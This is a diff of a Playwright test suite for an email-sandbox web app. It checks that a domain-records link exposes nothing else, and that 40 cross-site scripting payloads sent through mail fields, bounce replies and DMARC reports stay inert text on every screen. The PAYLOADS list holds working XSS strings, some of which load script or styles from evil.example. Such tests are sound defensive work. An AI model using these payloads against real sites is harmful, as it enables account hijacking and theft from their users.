@@ -62,15 +62,27 @@ t.test(
     const { page } = watched
     await logIn(watched, link())
     await page.waitForSelector('h1:has-text("Inbox")')
-    await sandbox.send({ to: 'delivered@simulator.sternpost.test', from: 'you@sandbox.test', subject: 'First' })
+    await sandbox.send({
+      to: 'delivered@simulator.sternpost.test',
+      from: 'you@sandbox.test',
+      subject: 'First',
+      html: '<p>Hi</p>',
+    })
     await page.waitForSelector('tbody a:has-text("First")', { timeout: 5_000 })
     await page.click('tbody a:has-text("First")')
     await page.waitForSelector('dd:has-text("pass")')
-    t.match(await page.textContent('pre'), 'Hi')
+    await page.frameLocator('iframe').locator('text=Hi').waitFor()
     await page.waitForSelector('pre:has-text("email.delivered")')
-    await page.click('text=The message with its timeline')
+    // A pointer may meet the frame while it is still being laid out.
+    await page.locator('text=The message with its timeline').press('Enter')
     await page.waitForSelector('li:has-text("delivered")')
     await page.waitForSelector('pre:has-text("250")')
+    await page.locator('section button:has-text("html")').press('Enter')
+    await page.frameLocator('iframe').locator('text=Hi').waitFor()
+    await page.locator('section button:has-text("source")').press('Enter')
+    await page.waitForSelector('pre:has-text("Subject: First")')
+    await goTo(watched, link(), 'messages?q=first')
+    await page.waitForSelector('tbody td:has-text("First")')
     t.same(watched.faults, [])
   },
 )
@@ -170,63 +182,141 @@ t.test(
   },
 )
 
+t.test(
+  'whoever runs the DNS sees the records of one domain by a link, and nothing else',
+  { skip: skipWithoutChromium },
+  async (t) => {
+    const made = await sandbox.ask('POST', '/v1/domains/sandbox.test/link')
+    const { url } = made['data'] as { url: string }
+    const watched = await openPage(browser)
+    const { page } = watched
+    await page.goto(url)
+    await page.waitForSelector('td:has-text("_domainkey.sandbox.test")')
+    t.same(await complaintsAbout(watched), [])
+    t.same(await page.context().cookies(), [])
+    t.equal(await page.locator('script, a, form').count(), 0)
+    for (const wrong of [
+      url.replace('sandbox.test/', 'other.test/'),
+      `${url.slice(0, -1)}${url.endsWith('A') ? 'B' : 'A'}`,
+      url.replace(/\d{10}-/, (ends) => `${Number(ends.slice(0, -1)) + 60}-`),
+      url.replace(/[^/]*$/, ''),
+    ]) {
+      t.equal((await fetch(wrong)).status, 404, wrong)
+    }
+  },
+)
+
+const HARM = 'globalThis.harmed=1'
+/** Ways in which a text has become a program elsewhere. */
 const PAYLOADS = [
-  '<script>globalThis.harmed=1</script>',
-  '<img src=x onerror="globalThis.harmed=1">',
-  '"><svg onload=globalThis.harmed=1>',
-  "'><iframe srcdoc='<script>top.harmed=1</script>'>",
-  'javascript:globalThis.harmed=1',
-  '${globalThis.harmed=1}',
-  '{{constructor.constructor("harmed=1")()}}',
-  '</title><script>globalThis.harmed=1</script>',
-  '<a href="javascript:globalThis.harmed=1">x</a>',
-  '<style>@import"//evil.example/x.css"</style>',
+  `<script>${HARM}</script>`,
+  `<ScRiPt>${HARM}</sCrIpT>`,
+  `<script src=//evil.example/x.js></script>`,
+  `</title><script>${HARM}</script>`,
+  `</textarea><script>${HARM}</script>`,
+  `</style><script>${HARM}</script>`,
+  `--><script>${HARM}</script>`,
+  `]]><script>${HARM}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
+  `<img src=x onerror="${HARM}">`,
+  `<img/src=x/onerror=${HARM}>`,
+  `<img src=x onerror=&#103;lobalThis.harmed=1>`,
+  `<img srcset=x onerror=${HARM}>`,
+  `<image href=x onerror=${HARM}>`,
+  `"><svg onload=${HARM}>`,
+  `<svg><script>${HARM}</script></svg>`,
+  `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${HARM}"><text>x</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${HARM}>`,
+  `<math href="javascript:${HARM}">x</math>`,
+  `'><iframe srcdoc='<script>top.harmed=1</script>'>`,
+  `<iframe src="javascript:top.harmed=1"></iframe>`,
+  `<object data="javascript:${HARM}"></object>`,
+  `<embed src="data:text/html,<script>${HARM}</script>">`,
+  `<a href="javascript:${HARM}">x</a>`,
+  `<a href="java&#10;script:${HARM}">x</a>`,
+  `<form action="javascript:${HARM}"><button>x</button></form>`,
+  `<button formaction="javascript:${HARM}">x</button>`,
+  `<details open ontoggle=${HARM}>x</details>`,
+  `<input autofocus onfocus=${HARM}>`,
+  `<video><source onerror=${HARM}></video>`,
+  `<body onload=${HARM}>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${HARM}">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import"//evil.example/x.css"</style>`,
+  `<div style="background:url(javascript:${HARM})">x</div>`,
+  `javascript:${HARM}`,
+  `\${${HARM}}`,
+  `{{constructor.constructor("${HARM}")()}}`,
 ]
 
 t.test('what strangers wrote stays text', { skip: skipWithoutChromium }, async (t) => {
-  for (const payload of PAYLOADS) {
-    await sandbox.ask('PUT', '/dev/replies', [
-      { to: 'evil@example.com', stage: 'rcpt', reply: `550 5.1.1 ${payload}`, times: 1 },
-    ])
-    const tag = payload.replaceAll(/[^\w<>"'=/.-]/g, '').slice(0, 60)
-    await sandbox.ask('POST', '/v1/email/send', {
-      to: 'evil@example.com',
-      from: 'you@sandbox.test',
-      subject: payload,
-      html: `<p>Hi</p>${payload}`,
-      tags: { tag },
-      attachments: [{ name: payload.replaceAll('/', '_'), content: 'eA==' }],
-    })
-    await sandbox.ask('POST', '/v1/email/send', {
-      to: 'ada@example.com',
+  t.equal(PAYLOADS.length, 40)
+  const replies = PAYLOADS.map((payload, number) => ({
+    to: `evil${number}@example.com`,
+    stage: 'rcpt',
+    reply: `550 5.1.1 ${payload}`,
+    times: 1,
+  }))
+  await sandbox.ask('PUT', '/dev/replies', replies)
+  for (const [number, payload] of PAYLOADS.entries()) {
+    const mail = {
       from: 'you@sandbox.test',
       subject: payload,
       html: `<p>Hi</p>${payload}`,
       text: payload,
+      tags: { tag: payload.slice(0, 60) },
+      metadata: { note: payload },
       attachments: [{ name: payload.replaceAll('/', '_'), content: 'eA==' }],
-    })
-  }
-  const watched = await loggedIn({ userAgent: PAYLOADS[0] })
-  const { page } = watched
-  await until('a mail bounced', async () => (await sandbox.list('/v1/email?state=bounced')).length > 0)
-  const mails = await sandbox.list<{ id: string }>('/dev/inbox?limit=12')
-  const messages = await sandbox.list<{ message_id: string }>('/v1/email?limit=20')
-  const shown = [
-    'inbox',
-    'messages',
-    'people',
-    'home',
-    ...mails.map(({ id }) => `inbox/${id}`),
-    ...messages.map(({ message_id: id }) => `messages/${id}`),
-  ]
-  for (const screen of shown) {
-    await goTo(watched, link(), screen)
-    if (screen.startsWith('inbox/')) {
-      for (const view of ['text', 'source', 'headers', 'links']) await page.click(`.choice button:has-text("${view}")`)
     }
-    const isHarmed = await page.evaluate(`'harmed' in globalThis`)
-    t.notOk(isHarmed, screen)
-    t.equal(await page.locator('main script, main svg[onload], main img, main iframe[srcdoc]').count(), 0, screen)
+    for (const to of [`evil${number}@example.com`, 'ada@example.com']) {
+      const sent = await sandbox.ask('POST', '/v1/email/send', { ...mail, to })
+      t.equal(sent['success'], true, payload)
+    }
   }
+  const bounced = (): Promise<{ message_id: string }[]> => sandbox.list('/v1/email?state=bounced&limit=100')
+  await until('each mail to evil… bounced', async () => (await bounced()).length >= PAYLOADS.length)
+  const watched = await loggedIn({ userAgent: PAYLOADS.slice(0, 3).join(' ') })
+  const { page } = watched
+  const look = async (screen: string): Promise<void> => {
+    t.notOk(await page.evaluate(`'harmed' in globalThis`), screen)
+    const built =
+      'main script, main svg[onload], main img, main iframe[srcdoc], main style, main base, main form[action]'
+    t.equal(await page.locator(built).count(), 0, screen)
+  }
+  for (const screen of ['inbox', 'messages', 'messages?q=status:bounced', 'people', 'home', 'providers']) {
+    await goTo(watched, link(), screen)
+    await look(screen)
+  }
+  for (const { id } of (await sandbox.list<{ id: string }>('/dev/inbox?limit=100')).slice(0, PAYLOADS.length)) {
+    await goTo(watched, link(), `inbox/${id}`)
+    for (const view of ['text', 'source', 'headers', 'links']) await page.click(`.choice button:has-text("${view}")`)
+    await look(`inbox/${id}`)
+  }
+  for (const { message_id: id } of (await bounced()).slice(0, PAYLOADS.length)) {
+    await goTo(watched, link(), `messages/${id}`)
+    await page.click('section button:has-text("text")')
+    await page.waitForSelector('section pre')
+    await look(`messages/${id}`)
+  }
+  t.same(watched.faults, [])
+})
+
+t.test('what a stranger claims in reports and answers stays text', { skip: skipWithoutChromium }, async (t) => {
+  const watched = await loggedIn()
+  const { page } = watched
+  const day = '2026-11-20'
+  const counts = { messages: 1, passed: 0, failed: 1, dkim_passed: 0, spf_passed: 0, quarantined: 0, rejected: 0 }
+  const sources = PAYLOADS.map((ip) => ({ ip, known: false, ...counts, first_day: day, last_day: day }))
+  const dmarc = { reports: 1, reporters: PAYLOADS, ...counts, sources, days: [] }
+  const claims = { domain: 'sandbox.test', from: day, to: day, policy: null, hint: PAYLOADS.join(' '), dmarc, tls: [] }
+  await page.route('**/v1/domains/*/authentication*', (route) =>
+    route.fulfill({ json: { success: true, data: claims } }),
+  )
+  await goTo(watched, link(), 'domains/sandbox.test')
+  await page.waitForSelector('td:has-text("not yours")')
+  t.equal(await page.locator('main script, main img, main iframe, main svg[onload]').count(), 0)
+  t.notOk(await page.evaluate(`'harmed' in globalThis`))
   t.same(watched.faults, [])
 })
